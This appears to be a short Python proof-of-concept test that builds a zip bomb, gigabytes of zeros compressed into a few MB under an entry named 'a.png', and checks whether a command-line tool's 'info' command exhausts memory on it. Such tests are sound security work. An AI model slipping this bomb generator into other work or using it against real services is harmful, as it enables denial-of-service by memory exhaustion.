"""A few MB of deflated zeros in a data zip, a torch .pt or a .pt2 fill gigabytes of memory."""

import os
import zipfile

from common import cli, verdict


def bomb(name, entry, n=3 * 2**29):
    with zipfile.ZipFile(name, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as a:
        with a.open(entry, "w", force_zip64=True) as f:
            for _ in range(n // 2**24):
                f.write(bytes(2**24))


bomb("d.zip", "a.png")
print(os.path.getsize("d.zip") // 1000, "kB")
rc, out, mb = cli("info", "d.zip", gb=6)
verdict(
    mb > 1800 or "MemoryError" in out,
    f"peak {mb} MB, rc {rc}: nothing compares an entry's size with what an image may have",
)
